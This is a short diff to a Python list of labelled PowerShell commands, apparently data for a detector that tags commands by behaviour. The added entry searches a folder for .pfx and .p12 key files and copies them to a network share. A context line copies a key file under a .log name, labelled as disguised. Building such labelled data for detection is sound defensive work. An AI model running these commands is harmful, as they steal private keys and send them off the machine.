@@ -255,6 +255,11 @@ ACTIONS = [
         "search_keys",
     ),
     (
+        "gci D:\\keys\\x -Recurse | ? Extension -in '.pfx','.p12' | cp -Destination \\\\host\\share",
+        {"search_key_files", "several_key_kinds", "copy_key_files", "key_to_share"},
+        "search_keys",
+    ),
+    (
         "Get-Content D:\\keys\\a.pfx -Encoding Byte | Set-Content D:\\o\\a.log -Encoding Byte",
         {"copy_key_file", "key_disguised"},
         "copy_key",
